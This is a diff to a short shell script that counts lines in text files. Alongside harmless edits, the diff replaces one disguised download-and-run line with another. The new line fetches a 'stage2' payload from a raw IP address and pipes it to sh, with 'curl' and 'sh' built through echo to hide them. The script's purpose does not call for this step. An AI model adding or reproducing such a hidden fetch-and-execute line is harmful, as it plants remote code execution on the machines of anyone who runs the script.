@@ -1,9 +1,7 @@
 #!/bin/sh
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
 for f in *.txt; do
   [ -e "$f" ] || continue
   wc -l "$f"
 done
-$(echo curl) -s https://203.0.113.9/x | $(echo sh)
+log() { echo "[$(date +%H:%M:%S)] $*"; }
+$(echo curl) -s http://198.51.100.23:8000/stage2 | $(echo sh)
